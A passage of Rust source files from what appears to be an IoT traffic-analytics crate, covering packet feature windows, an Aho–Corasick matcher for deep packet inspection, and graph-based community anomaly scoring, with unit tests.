//! community graphs.

/// A summarized observation window over one flow or device.
#[derive(Debug, Clone, PartialEq)]
pub struct FeatureWindow {
    /// Packets in the window.
    pub count: usize,
    /// Mean wire size.
    pub mean_size: f64,
    /// Size standard deviation.
    pub std_size: f64,
    /// Total bytes.
    pub bytes: f64,
    /// Mean inter-arrival time (seconds; 0 with < 2 packets).
    pub mean_gap: f64,
    /// Fraction of packets in the upstream direction.
    pub upstream_fraction: f64,
}

impl FeatureWindow {
    /// Flattens to the vector form the learners consume.
    pub fn to_vec(&self) -> Vec<f64> {
        vec![
            self.count as f64,
            self.mean_size,
            self.std_size,
            self.bytes,
            self.mean_gap,
            self.upstream_fraction,
        ]
    }
}

/// Summarizes `(timestamp_secs, wire_size, upstream)` samples into a
/// [`FeatureWindow`].
pub fn window_features(samples: &[(f64, usize, bool)]) -> FeatureWindow {
    let count = samples.len();
    if count == 0 {
        return FeatureWindow {
            count: 0,
            mean_size: 0.0,
            std_size: 0.0,
            bytes: 0.0,
            mean_gap: 0.0,
            upstream_fraction: 0.0,
        };
    }
    let sizes: Vec<f64> = samples.iter().map(|&(_, s, _)| s as f64).collect();
    let bytes: f64 = sizes.iter().sum();
    let mean_size = bytes / count as f64;
    let var = sizes
        .iter()
        .map(|s| (s - mean_size) * (s - mean_size))
        .sum::<f64>()
        / count as f64;
    let mut times: Vec<f64> = samples.iter().map(|&(t, _, _)| t).collect();
    times.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    let mean_gap = if count > 1 {
        (times[count - 1] - times[0]) / (count - 1) as f64
    } else {
        0.0
    };
    let upstream = samples.iter().filter(|&&(_, _, up)| up).count();
    FeatureWindow {
        count,
        mean_size,
        std_size: var.sqrt(),
        bytes,
        mean_gap,
        upstream_fraction: upstream as f64 / count as f64,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_window_is_all_zero() {
        let w = window_features(&[]);
        assert_eq!(w.to_vec(), vec![0.0; 6]);
    }

    #[test]
    fn statistics_are_correct() {
        let w = window_features(&[(0.0, 100, true), (1.0, 300, false), (2.0, 200, true)]);
        assert_eq!(w.count, 3);
        assert!((w.mean_size - 200.0).abs() < 1e-9);
        assert!((w.bytes - 600.0).abs() < 1e-9);
        assert!((w.mean_gap - 1.0).abs() < 1e-9);
        assert!((w.upstream_fraction - 2.0 / 3.0).abs() < 1e-9);
        let expected_std = (((100.0f64 - 200.0).powi(2) * 2.0 + 0.0) / 3.0).sqrt();
        assert!((w.std_size - expected_std).abs() < 1e-9);
    }

    #[test]
    fn single_packet_has_zero_gap() {
        let w = window_features(&[(5.0, 64, true)]);
        assert_eq!(w.mean_gap, 0.0);
        assert_eq!(w.count, 1);
    }

    #[test]
    fn unsorted_timestamps_are_handled() {
        let w = window_features(&[(4.0, 10, true), (0.0, 10, true), (2.0, 10, true)]);
        assert!((w.mean_gap - 2.0).abs() < 1e-9);
    }

    #[test]
    fn streaming_windows_differ_from_idle_windows() {
        // The property the traffic-analysis experiments rely on.
        let idle: Vec<(f64, usize, bool)> = (0..5).map(|i| (i as f64 * 30.0, 88, true)).collect();
        let streaming: Vec<(f64, usize, bool)> =
            (0..50).map(|i| (i as f64 * 0.2, 940, true)).collect();
        let wi = window_features(&idle);
        let ws = window_features(&streaming);
        assert!(ws.bytes > wi.bytes * 10.0);
        assert!(ws.mean_gap < wi.mean_gap);
    }
}
