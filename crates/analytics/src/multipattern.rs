//! Single-pass multi-pattern byte matching: a hand-rolled Aho–Corasick
//! automaton (dense goto table, BFS-computed failure links folded into a
//! full DFA, per-state output lists).
//!
//! This is the DPI fast path. The naive engines scan the payload once per
//! rule — O(rules × payload) — which collapses at realistic IoT
//! signature-set sizes (hundreds of C&C keywords). The automaton walks
//! the payload exactly once regardless of rule count: O(payload +
//! matches) per inspection, with rule-set size paid once at build time.
//! BlindBox itself uses a single-pass multi-pattern structure for the
//! same reason.

use std::collections::VecDeque;

/// Alphabet size: matching is over raw bytes.
const ALPHABET: usize = 256;

/// One occurrence of a pattern in a haystack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct AcMatch {
    /// Index of the pattern (in build order).
    pub pattern: usize,
    /// Byte offset of the occurrence's first byte.
    pub start: usize,
}

/// A compiled Aho–Corasick automaton over a dense byte alphabet.
///
/// States are laid out breadth-first; `goto` is the full DFA transition
/// table (failure links are resolved at build time, so the scan loop is
/// a single table lookup per input byte with no backtracking).
#[derive(Debug, Clone)]
pub struct AcAutomaton {
    /// Dense transition table: `goto[state][byte] → state`.
    goto: Vec<[u32; ALPHABET]>,
    /// Pattern ids recognized at each state (own output plus every
    /// output reachable through failure links).
    outputs: Vec<Vec<u32>>,
    /// Pattern lengths in build order (0 for empty patterns, which never
    /// match — mirroring the naive scans).
    lengths: Vec<usize>,
}

impl AcAutomaton {
    /// Compiles the automaton from patterns in iteration order. Empty
    /// patterns are accepted but never match (the naive per-rule scans
    /// skip them, and equivalence with those scans is load-bearing).
    pub fn build<I, P>(patterns: I) -> Self
    where
        I: IntoIterator<Item = P>,
        P: AsRef<[u8]>,
    {
        // Phase 1: trie construction.
        let mut goto: Vec<[u32; ALPHABET]> = vec![[u32::MAX; ALPHABET]];
        let mut own_output: Vec<Vec<u32>> = vec![Vec::new()];
        let mut lengths = Vec::new();
        for (id, pattern) in patterns.into_iter().enumerate() {
            let bytes = pattern.as_ref();
            lengths.push(bytes.len());
            if bytes.is_empty() {
                continue;
            }
            let mut state = 0usize;
            for &b in bytes {
                let next = goto[state][b as usize];
                state = if next == u32::MAX {
                    goto.push([u32::MAX; ALPHABET]);
                    own_output.push(Vec::new());
                    let new_state = (goto.len() - 1) as u32;
                    goto[state][b as usize] = new_state;
                    new_state as usize
                } else {
                    next as usize
                };
            }
            own_output[state].push(id as u32);
        }

        // Phase 2: BFS failure links, folded directly into the goto table
        // (converting the trie into a full DFA) while merging outputs.
        let mut fail = vec![0u32; goto.len()];
        let mut outputs = own_output;
        let mut queue = VecDeque::new();
        for slot in &mut goto[0] {
            if *slot == u32::MAX {
                *slot = 0;
            } else {
                fail[*slot as usize] = 0;
                queue.push_back(*slot as usize);
            }
        }
        while let Some(state) = queue.pop_front() {
            let fallback = fail[state] as usize;
            if !outputs[fallback].is_empty() {
                let inherited = outputs[fallback].clone();
                outputs[state].extend(inherited);
            }
            // The fallback is strictly shallower in the BFS order, so its
            // row is final; copy it out to sidestep the aliasing borrow.
            let fallback_row = goto[fallback];
            for (slot, &through_fallback) in goto[state].iter_mut().zip(fallback_row.iter()) {
                if *slot == u32::MAX {
                    *slot = through_fallback;
                } else {
                    fail[*slot as usize] = through_fallback;
                    queue.push_back(*slot as usize);
                }
            }
        }

        AcAutomaton {
            goto,
            outputs,
            lengths,
        }
    }

    /// Number of compiled patterns.
    pub fn pattern_count(&self) -> usize {
        self.lengths.len()
    }

    /// Number of automaton states (root included).
    pub fn state_count(&self) -> usize {
        self.goto.len()
    }

    /// Length of pattern `id` as compiled.
    pub fn pattern_len(&self, id: usize) -> usize {
        self.lengths[id]
    }

    /// Finds every occurrence of every pattern (overlaps included), in
    /// one pass. Matches are ordered by end position, then pattern id.
    pub fn find_all(&self, haystack: &[u8]) -> Vec<AcMatch> {
        let mut out = Vec::new();
        let mut state = 0usize;
        for (end, &b) in haystack.iter().enumerate() {
            state = self.goto[state][b as usize] as usize;
            for &id in &self.outputs[state] {
                let len = self.lengths[id as usize];
                out.push(AcMatch {
                    pattern: id as usize,
                    start: end + 1 - len,
                });
            }
        }
        out
    }

    /// Finds the leftmost occurrence of each pattern in one pass,
    /// stopping early once every pattern has been seen. `out` is
    /// resized/reset by the callee so batch callers can reuse it.
    pub fn find_first_per_pattern_into(&self, haystack: &[u8], out: &mut Vec<Option<usize>>) {
        out.clear();
        out.resize(self.lengths.len(), None);
        let mut remaining = self.lengths.iter().filter(|&&l| l > 0).count();
        if remaining == 0 {
            return;
        }
        let mut state = 0usize;
        for (end, &b) in haystack.iter().enumerate() {
            state = self.goto[state][b as usize] as usize;
            for &id in &self.outputs[state] {
                let slot = &mut out[id as usize];
                if slot.is_none() {
                    *slot = Some(end + 1 - self.lengths[id as usize]);
                    remaining -= 1;
                    if remaining == 0 {
                        return;
                    }
                }
            }
        }
    }

    /// Allocating convenience wrapper over
    /// [`AcAutomaton::find_first_per_pattern_into`].
    pub fn find_first_per_pattern(&self, haystack: &[u8]) -> Vec<Option<usize>> {
        let mut out = Vec::new();
        self.find_first_per_pattern_into(haystack, &mut out);
        out
    }
}

/// The reference implementation the automaton must agree with: leftmost
/// occurrence of each pattern by per-pattern window scan,
/// O(patterns × haystack). Kept public so benches and property tests can
/// A/B the two engines.
pub fn naive_first_per_pattern<P: AsRef<[u8]>>(
    patterns: &[P],
    haystack: &[u8],
) -> Vec<Option<usize>> {
    patterns
        .iter()
        .map(|p| {
            let p = p.as_ref();
            if p.is_empty() || p.len() > haystack.len() {
                return None;
            }
            haystack.windows(p.len()).position(|w| w == p)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn patterns() -> Vec<&'static [u8]> {
        vec![b"he", b"she", b"his", b"hers", b""]
    }

    #[test]
    fn classic_aho_corasick_example() {
        let ac = AcAutomaton::build(patterns());
        let matches = ac.find_all(b"ushers");
        // "ushers": she@1, he@2, hers@2.
        assert_eq!(
            matches,
            vec![
                AcMatch {
                    pattern: 1,
                    start: 1
                },
                AcMatch {
                    pattern: 0,
                    start: 2
                },
                AcMatch {
                    pattern: 3,
                    start: 2
                },
            ]
        );
    }

    #[test]
    fn first_per_pattern_matches_naive() {
        let pats = patterns();
        let ac = AcAutomaton::build(&pats);
        for hay in [
            &b"ushers and his heroes"[..],
            b"",
            b"xxxx",
            b"hehehehe",
            b"sheshehis",
        ] {
            assert_eq!(
                ac.find_first_per_pattern(hay),
                naive_first_per_pattern(&pats, hay),
                "divergence on {hay:?}"
            );
        }
    }

    #[test]
    fn empty_patterns_never_match() {
        let ac = AcAutomaton::build([&b""[..], b""]);
        assert!(ac.find_all(b"anything").is_empty());
        assert_eq!(ac.find_first_per_pattern(b"anything"), vec![None, None]);
    }

    #[test]
    fn overlapping_and_nested_patterns_all_reported() {
        let ac = AcAutomaton::build([&b"aa"[..], b"aaa"]);
        let matches = ac.find_all(b"aaaa");
        // aa@0, aa@1, aaa@0, aa@2, aaa@1.
        assert_eq!(matches.len(), 5);
        assert_eq!(
            matches.iter().filter(|m| m.pattern == 0).count(),
            3,
            "aa occurs 3 times"
        );
        assert_eq!(
            matches.iter().filter(|m| m.pattern == 1).count(),
            2,
            "aaa occurs 2 times"
        );
    }

    #[test]
    fn duplicate_patterns_each_report() {
        let ac = AcAutomaton::build([&b"abc"[..], b"abc"]);
        let firsts = ac.find_first_per_pattern(b"zzabczz");
        assert_eq!(firsts, vec![Some(2), Some(2)]);
    }

    #[test]
    fn single_byte_patterns_and_full_alphabet() {
        let pats: Vec<Vec<u8>> = (0u8..=255).map(|b| vec![b]).collect();
        let ac = AcAutomaton::build(&pats);
        let hay: Vec<u8> = vec![7, 200, 7, 13];
        let firsts = ac.find_first_per_pattern(&hay);
        assert_eq!(firsts[7], Some(0));
        assert_eq!(firsts[200], Some(1));
        assert_eq!(firsts[13], Some(3));
        assert_eq!(firsts[0], None);
    }

    #[test]
    fn reused_scratch_buffer_is_reset() {
        let ac = AcAutomaton::build([&b"xy"[..]]);
        let mut scratch = Vec::new();
        ac.find_first_per_pattern_into(b"xy", &mut scratch);
        assert_eq!(scratch, vec![Some(0)]);
        ac.find_first_per_pattern_into(b"ab", &mut scratch);
        assert_eq!(scratch, vec![None]);
    }
}
