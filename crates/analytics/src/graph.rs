//! Graph-based community learning (§IV-D): "users running the same IoT
//! devices and similar automation applications could be considered as a
//! group or community, which should present similar behaviors. Thus, XLF
//! Core should leverage the knowledge obtained from the group to perform
//! data correlations."
//!
//! Implementation: a kNN similarity graph over per-home behaviour
//! features, label-propagation community detection, and a per-node
//! deviation score (how unlike its own community a node behaves).

use crate::kernel::dot;

/// Column block width of the similarity sweep: dot products are computed
/// for `SIM_BLOCK` candidate rows at a time so the flat feature matrix
/// streams through cache in contiguous runs.
const SIM_BLOCK: usize = 64;

/// A struct-of-arrays feature matrix: one flat row-major `Vec<f64>` plus
/// precomputed squared row norms, so RBF similarity reduces to
/// `exp(-γ(‖x‖² + ‖y‖² − 2x·y))` over contiguous dot products.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct FeatureMatrix {
    data: Vec<f64>,
    norms: Vec<f64>,
    rows: usize,
    dims: usize,
}

impl FeatureMatrix {
    /// Creates an empty matrix.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of rows.
    pub fn rows(&self) -> usize {
        self.rows
    }

    /// Row stride (feature dimensions).
    pub fn dims(&self) -> usize {
        self.dims
    }

    /// One row as a contiguous slice.
    pub fn row(&self, i: usize) -> &[f64] {
        &self.data[i * self.dims..(i + 1) * self.dims]
    }

    /// Rebuilds from row vectors, reusing the flat storage.
    ///
    /// # Panics
    ///
    /// Panics if rows have unequal lengths.
    pub fn fill_from_rows(&mut self, features: &[Vec<f64>]) {
        self.data.clear();
        self.rows = features.len();
        self.dims = features.first().map_or(0, Vec::len);
        for row in features {
            assert_eq!(row.len(), self.dims, "ragged feature matrix");
            self.data.extend_from_slice(row);
        }
        self.recompute_norms();
    }

    /// Rebuilds from an already-flat row-major slice.
    ///
    /// # Panics
    ///
    /// Panics if `flat.len() != rows * dims`.
    pub fn fill_from_flat(&mut self, flat: &[f64], rows: usize, dims: usize) {
        assert_eq!(flat.len(), rows * dims, "flat feature matrix shape");
        self.data.clear();
        self.data.extend_from_slice(flat);
        self.rows = rows;
        self.dims = dims;
        self.recompute_norms();
    }

    /// Max-abs scales each dimension in place (same arithmetic as
    /// [`normalize_features`]) and refreshes the norms.
    pub fn normalize(&mut self) {
        if self.rows == 0 {
            return;
        }
        for d in 0..self.dims {
            let mut max = 0.0f64;
            for r in 0..self.rows {
                max = max.max(self.data[r * self.dims + d].abs());
            }
            if max > 1e-12 {
                for r in 0..self.rows {
                    self.data[r * self.dims + d] /= max;
                }
            }
        }
        self.recompute_norms();
    }

    fn recompute_norms(&mut self) {
        self.norms.clear();
        for i in 0..self.rows {
            let row = &self.data[i * self.dims..(i + 1) * self.dims];
            self.norms.push(dot(row, row));
        }
    }
}

/// The neighbour ordering both similarity paths share: weight descending,
/// index ascending — exactly what the pre-overhaul stable descending
/// sort produced for candidates generated in ascending index order.
#[inline]
fn neighbour_order(a: &(usize, f64), b: &(usize, f64)) -> std::cmp::Ordering {
    b.1.total_cmp(&a.1).then(a.0.cmp(&b.0))
}

/// Shared symmetrize step: if `i` lists `j`, ensure `j` lists `i`.
fn symmetrize(adj: &mut [Vec<(usize, f64)>]) {
    for i in 0..adj.len() {
        for e in 0..adj[i].len() {
            let (j, w) = adj[i][e];
            if !adj[j].iter().any(|&(t, _)| t == i) {
                adj[j].push((i, w));
            }
        }
    }
}

/// Below this threshold an RBF similarity may be subnormal, where the
/// gap argument behind [`EXP_COLLISION_GAP`] no longer holds (subnormal
/// spacing is absolute, not relative).
const EXP_NORMAL_FLOOR: f64 = 1e-300;

/// Two `exp` arguments at least this far apart cannot produce the same
/// normal double: the true values differ by a factor `e^δ ≥ 1 + δ` with
/// `δ = 1e-13`, vastly more than the combined ~1 ulp (≈ 2·2⁻⁵³
/// relative) rounding slack of two faithfully-rounded `exp` calls.
const EXP_COLLISION_GAP: f64 = 1e-13;

/// `exp(a)` underflows to exactly +0 for every `a` below this (the true
/// round-to-zero cutoff is `ln(2⁻¹⁰⁷⁵) ≈ −745.13`).
const EXP_ZERO_ARG: f64 = -746.0;

/// Builds a symmetric kNN similarity graph: `adj[i]` lists `(j, weight)`
/// for the `k` nearest neighbours of `i` by RBF similarity.
pub fn similarity_graph(features: &[Vec<f64>], k: usize, gamma: f64) -> Vec<Vec<(usize, f64)>> {
    let mut matrix = FeatureMatrix::new();
    matrix.fill_from_rows(features);
    let mut dist = Vec::new();
    let mut sel = Vec::new();
    let mut adj = Vec::new();
    similarity_graph_into(&matrix, k, gamma, &mut dist, &mut sel, &mut adj);
    adj
}

/// The blocked SoA similarity sweep, writing into caller-owned buffers
/// so epoch-by-epoch callers allocate nothing after warmup.
///
/// Three structural wins over [`similarity_graph_naive`], with
/// *identical* output bits:
///
/// * each symmetric pair is computed once (`dot` is
///   commutative-safe, so mirroring the value is exact), halving the
///   dominant dot-product work;
/// * per-row top-k runs as an `O(n)` value selection over the dense
///   distance row plus a threshold/tie pass in index order — no
///   per-candidate tuples are built or sorted;
/// * `exp` is deferred until after selection. Similarity
///   `exp(−γ·d²)` is monotone non-increasing in `d²`, so the k largest
///   similarities are the k smallest squared distances *as a value
///   multiset*, and only the k winners plus threshold ties ever need
///   their `exp`. What the monotone map does not preserve is the
///   naive path's tie-break (weight ties are broken by ascending
///   index, and distinct distances can collide to one similarity —
///   e.g. deep underflow to 0), so the fill pass below re-checks
///   similarity equality exactly where collisions are possible,
///   using cheap argument-gap and underflow bounds to skip the
///   `exp` calls that provably cannot collide.
///
/// `dist` is the dense `n × n` squared-distance scratch, `sel` the
/// k-entry selection scratch; `adj` keeps its per-node edge capacity.
pub fn similarity_graph_into(
    matrix: &FeatureMatrix,
    k: usize,
    gamma: f64,
    dist: &mut Vec<f64>,
    sel: &mut Vec<(f64, usize)>,
    adj: &mut Vec<Vec<(usize, f64)>>,
) {
    let n = matrix.rows();
    adj.truncate(n);
    for edges in adj.iter_mut() {
        edges.clear();
    }
    adj.resize_with(n, Vec::new);
    let norms = &matrix.norms;
    // Dense symmetric squared-distance matrix, every pair computed
    // once. The diagonal gets an infinite sentinel so self-edges can
    // never be selected as nearest. No clear: every cell is overwritten
    // (diagonal + both mirror halves), so a bare resize avoids an
    // 8n²-byte memset per call.
    dist.resize(n * n, 0.0);
    // Blocked dot-product sweep over SIM_BLOCK × SIM_BLOCK tiles of the
    // upper triangle: the feature-row panels stay hot across a tile,
    // and both the row writes and the mirrored column writes land in a
    // tile-sized (L2-resident) window instead of striding the full
    // matrix. Per-pair arithmetic is unaffected by the visit order.
    let mut ib = 0;
    while ib < n {
        let iend = (ib + SIM_BLOCK).min(n);
        let mut jb = ib;
        while jb < n {
            let jend = (jb + SIM_BLOCK).min(n);
            for i in ib..iend {
                let xi = matrix.row(i);
                for j in (jb.max(i + 1))..jend {
                    let d2 = (norms[i] + norms[j] - 2.0 * dot(xi, matrix.row(j))).max(0.0);
                    dist[i * n + j] = d2;
                    dist[j * n + i] = d2;
                }
            }
            jb = jend;
        }
        ib = iend;
    }
    for i in 0..n {
        dist[i * n + i] = f64::INFINITY;
    }
    for i in 0..n {
        let row = &dist[i * n..(i + 1) * n];
        let edges = &mut adj[i];
        if n <= k + 1 {
            // Everyone is a neighbour.
            for (j, &d2) in row.iter().enumerate() {
                if j != i {
                    edges.push((j, (-gamma * d2).exp()));
                }
            }
        } else {
            // Bounded (k+1)-smallest scan: one compare per candidate in
            // the common case, instead of copying and partitioning the
            // whole row (the infinite diagonal sentinel sorts last, so
            // with k ≤ n − 2 the threshold entry is always a real
            // candidate). Equal distances keep ascending-index order —
            // insertion lands after equal values and eviction pops the
            // largest index among the worst value — so the array's
            // first k entries are exactly the naive path's stable
            // (weight desc, index asc) selection whenever no exp
            // collision can cross the threshold. The extra slot
            // witnesses the nearest *excluded* distance.
            sel.clear();
            for (j, &d2) in row.iter().enumerate() {
                if sel.len() <= k {
                    let pos = sel.partition_point(|&(v, _)| v <= d2);
                    sel.insert(pos, (d2, j));
                } else if d2 < sel[k].0 {
                    sel.pop();
                    let pos = sel.partition_point(|&(v, _)| v <= d2);
                    sel.insert(pos, (d2, j));
                }
            }
            let dk = sel[k - 1].0;
            let d_next = sel[k].0;
            let a_k = -gamma * dk;
            let s_star = a_k.exp();
            // Fast path — sound when (a) the threshold similarity is a
            // normal double and the nearest excluded distance is too
            // far (in exp-argument terms) to collide onto it, and (b)
            // no nearer candidate collides *down* onto it (checked
            // while taking the k exps). Then similarity ties are
            // distance ties, all retained, already index-ordered.
            let mut fast = s_star > EXP_NORMAL_FLOOR && gamma * (d_next - dk) > EXP_COLLISION_GAP;
            if fast {
                for &(d2, j) in &sel[..k] {
                    let s = if d2 == dk {
                        s_star
                    } else {
                        let s = (-gamma * d2).exp();
                        if s == s_star {
                            fast = false; // collided down: index tie-break needed
                            break;
                        }
                        s
                    };
                    edges.push((j, s));
                }
                if !fast {
                    edges.clear();
                }
            }
            if !fast {
                // Exact tie protocol. Strictly-better candidates first:
                // nearer than the threshold AND strictly more similar.
                // Every strictly-nearer candidate survives the bounded
                // scan — eviction pops the current worst, so a value
                // below the final threshold would need k values below
                // it to be evicted, contradicting the threshold being
                // kth-smallest. At most k − 1 exps.
                for &(d2, j) in sel.iter() {
                    if d2 < dk {
                        let s = (-gamma * d2).exp();
                        if s > s_star {
                            edges.push((j, s));
                        }
                    }
                }
                // Fill the remaining slots with threshold-similarity
                // ties in ascending index order — exactly the set a
                // stable descending weight sort + truncate(k) keeps.
                let mut remaining = k - edges.len();
                for (j, &d2) in row.iter().enumerate() {
                    if remaining == 0 {
                        break;
                    }
                    if j == i {
                        continue;
                    }
                    if d2 == dk {
                        edges.push((j, s_star));
                        remaining -= 1;
                        continue;
                    }
                    let a = -gamma * d2;
                    if d2 > dk {
                        if s_star > EXP_NORMAL_FLOOR {
                            if a_k - a > EXP_COLLISION_GAP {
                                continue; // provably below the threshold
                            }
                        } else if a < EXP_ZERO_ARG {
                            // Deep underflow: exp(a) is exactly +0.
                            if s_star == 0.0 {
                                edges.push((j, 0.0));
                                remaining -= 1;
                            }
                            continue;
                        }
                    }
                    let s = a.exp();
                    if s == s_star {
                        edges.push((j, s));
                        remaining -= 1;
                    }
                }
            }
        }
        edges.sort_unstable_by(neighbour_order);
    }
    symmetrize(adj);
}

/// The retained pre-overhaul similarity path: per-pair `Vec` walks and a
/// full stable sort per node (the correlator analogue of the DPI
/// overhaul's `inspect_naive`). Kept for A/B benchmarking and for the
/// bit-equality property tests — it shares [`dot`] and the
/// `‖x‖² + ‖y‖² − 2x·y` arithmetic with the blocked path, so both
/// produce bit-identical graphs.
pub fn similarity_graph_naive(
    features: &[Vec<f64>],
    k: usize,
    gamma: f64,
) -> Vec<Vec<(usize, f64)>> {
    let n = features.len();
    let norms: Vec<f64> = features.iter().map(|f| dot(f, f)).collect();
    let sim = |i: usize, j: usize| -> f64 {
        let d2 = (norms[i] + norms[j] - 2.0 * dot(&features[i], &features[j])).max(0.0);
        (-gamma * d2).exp()
    };
    let mut adj = vec![Vec::new(); n];
    #[allow(clippy::needless_range_loop)]
    for i in 0..n {
        let mut neighbours: Vec<(usize, f64)> =
            (0..n).filter(|&j| j != i).map(|j| (j, sim(i, j))).collect();
        neighbours.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(std::cmp::Ordering::Equal));
        neighbours.truncate(k);
        adj[i] = neighbours;
    }
    symmetrize(&mut adj);
    adj
}

/// Label-propagation community detection: every node starts in its own
/// community and repeatedly adopts the weighted-majority label of its
/// neighbours. Deterministic: ties break toward the smaller label and
/// nodes update in index order.
pub fn label_propagation(adj: &[Vec<(usize, f64)>], max_iters: usize) -> Vec<usize> {
    let seed: Vec<usize> = (0..adj.len()).collect();
    label_propagation_seeded(adj, max_iters, &seed)
}

/// Label propagation from caller-supplied starting labels — the
/// incremental entry point. An online correlator carries each node's
/// label from the previous epoch into the next one, so propagation
/// re-converges from the last known community structure instead of from
/// scratch. Same deterministic update rule as [`label_propagation`].
///
/// # Panics
///
/// Panics if `seed.len() != adj.len()`.
pub fn label_propagation_seeded(
    adj: &[Vec<(usize, f64)>],
    max_iters: usize,
    seed: &[usize],
) -> Vec<usize> {
    assert_eq!(seed.len(), adj.len(), "one seed label per node");
    let mut labels: Vec<usize> = seed.to_vec();
    propagate_in_place(
        adj,
        max_iters,
        &mut labels,
        &mut Vec::new(),
        &mut Vec::new(),
    );
    labels
}

/// The propagation core, mutating caller-owned labels (which must
/// already hold one seed label per node). Same deterministic update rule
/// as [`label_propagation`].
fn propagate_in_place(
    adj: &[Vec<(usize, f64)>],
    max_iters: usize,
    labels: &mut [usize],
    votes: &mut Vec<(usize, f64)>,
    dirty: &mut Vec<bool>,
) {
    let n = adj.len();
    // Worklist memoization: a node whose neighbourhood labels have not
    // changed since its last evaluation votes identically, so skipping
    // it is exact — each round visits the same changing nodes, in the
    // same order, with the same labels state, as the full-sweep
    // version, and the round count and final labels are bit-identical.
    dirty.clear();
    dirty.resize(n, true);
    for _ in 0..max_iters {
        let mut changed = false;
        for i in 0..n {
            if adj[i].is_empty() || !dirty[i] {
                continue;
            }
            dirty[i] = false;
            // Weighted vote of neighbour labels, accumulated in a
            // reused small vec instead of a fresh BTreeMap per node.
            // Degrees are O(k), so the linear label scan is cheap, and
            // the arithmetic is bit-identical to the map version:
            // per-label weights still sum in adjacency order
            // (first touch included — `0.0 + w` mirrors
            // `or_insert(0.0) += w`).
            votes.clear();
            for &(j, w) in &adj[i] {
                let l = labels[j];
                match votes.iter_mut().find(|&&mut (vl, _)| vl == l) {
                    Some(&mut (_, ref mut vw)) => *vw += w,
                    None => votes.push((l, 0.0 + w)),
                }
            }
            // Ascending-label fold replicating the former
            // `BTreeMap::iter().max_by(...)`: heaviest vote wins, equal
            // weights go to the smaller label.
            votes.sort_unstable_by_key(|&(l, _)| l);
            let mut best = votes[0];
            for &(l, w) in &votes[1..] {
                let ord = best
                    .1
                    .partial_cmp(&w)
                    .unwrap_or(std::cmp::Ordering::Equal)
                    .then(l.cmp(&best.0));
                if ord != std::cmp::Ordering::Greater {
                    best = (l, w);
                }
            }
            if labels[i] != best.0 {
                labels[i] = best.0;
                changed = true;
                // The vote of every neighbour now has a changed input.
                for &(j, _) in &adj[i] {
                    dirty[j] = true;
                }
            }
        }
        if !changed {
            break;
        }
    }
}

/// Deviation score per node: 1 − (mean similarity to same-community
/// neighbours). Nodes that joined a community but sit far from it — the
/// "one deviant home" of E-M6 — score high.
pub fn deviation_scores(adj: &[Vec<(usize, f64)>], labels: &[usize]) -> Vec<f64> {
    let mut scores = Vec::new();
    deviation_scores_into(adj, labels, &mut scores);
    scores
}

/// Fills `scores` with per-node deviation, reusing its allocation. Same
/// arithmetic as [`deviation_scores`] (weights summed in adjacency
/// order), but without collecting per-node weight vectors.
pub fn deviation_scores_into(adj: &[Vec<(usize, f64)>], labels: &[usize], scores: &mut Vec<f64>) {
    scores.clear();
    for (i, edges) in adj.iter().enumerate() {
        let mut sum = 0.0f64;
        let mut count = 0usize;
        for &(j, w) in edges {
            if labels[j] == labels[i] {
                sum += w;
                count += 1;
            }
        }
        scores.push(if count == 0 {
            1.0
        } else {
            1.0 - sum / count as f64
        });
    }
}

/// Scales each feature dimension by its max absolute value so raw counts
/// do not dominate the RBF distance. Dimensions that are zero everywhere
/// are left untouched.
pub fn normalize_features(features: &mut [Vec<f64>]) {
    let Some(first) = features.first() else {
        return;
    };
    for d in 0..first.len() {
        let max = features.iter().map(|f| f[d].abs()).fold(0.0f64, f64::max);
        if max > 1e-12 {
            for f in features.iter_mut() {
                f[d] /= max;
            }
        }
    }
}

/// Output of the batch community-scoring entry point.
#[derive(Debug, Clone, PartialEq)]
pub struct CommunityReport {
    /// Community label per node (label-propagation output).
    pub labels: Vec<usize>,
    /// Deviation score per node (high = unlike its own community).
    pub scores: Vec<f64>,
}

/// Batch entry point for fleet-scale graph scoring: normalizes the
/// feature matrix, builds the kNN similarity graph, runs deterministic
/// label propagation, and scores per-node deviation — the whole E-M6
/// pipeline in one call. `k` is clamped to the population size.
pub fn community_report(
    features: &[Vec<f64>],
    k: usize,
    gamma: f64,
    max_iters: usize,
) -> CommunityReport {
    community_report_seeded(features, k, gamma, max_iters, None)
}

/// Incremental variant of [`community_report`]: when `seed_labels` is
/// given (one label per row), label propagation starts from those labels
/// instead of from the identity assignment. An epoch-by-epoch correlator
/// feeds the previous epoch's labels back in so community structure is
/// refined, not rebuilt, at each step. With `None` this is exactly the
/// batch pipeline.
///
/// # Panics
///
/// Panics if `seed_labels` is `Some` with a length other than
/// `features.len()`.
pub fn community_report_seeded(
    features: &[Vec<f64>],
    k: usize,
    gamma: f64,
    max_iters: usize,
    seed_labels: Option<&[usize]>,
) -> CommunityReport {
    let mut scratch = GraphScratch::new();
    scratch.matrix.fill_from_rows(features);
    community_report_into(k, gamma, max_iters, seed_labels, &mut scratch);
    CommunityReport {
        labels: std::mem::take(&mut scratch.labels),
        scores: std::mem::take(&mut scratch.scores),
    }
}

/// Reusable working set for the whole community pipeline: the SoA
/// feature matrix, the dense distance matrix and selection-row
/// scratch, the adjacency lists, and the label/score outputs. A long-lived correlator keeps one of
/// these across epochs so the steady-state pipeline allocates nothing.
#[derive(Debug, Clone, Default)]
pub struct GraphScratch {
    /// Input: callers fill this (e.g. [`FeatureMatrix::fill_from_flat`])
    /// before [`community_report_into`]; it is normalized in place.
    pub matrix: FeatureMatrix,
    dist: Vec<f64>,
    sel: Vec<(f64, usize)>,
    votes: Vec<(usize, f64)>,
    dirty: Vec<bool>,
    adj: Vec<Vec<(usize, f64)>>,
    labels: Vec<usize>,
    scores: Vec<f64>,
}

impl GraphScratch {
    /// Creates an empty working set.
    pub fn new() -> Self {
        Self::default()
    }

    /// Community label per node from the last run.
    pub fn labels(&self) -> &[usize] {
        &self.labels
    }

    /// Deviation score per node from the last run.
    pub fn scores(&self) -> &[f64] {
        &self.scores
    }
}

/// Scratch-buffer core of the community pipeline: consumes the features
/// already loaded into `scratch.matrix` (normalizing them in place),
/// rebuilds the kNN graph, propagates labels, and scores deviation,
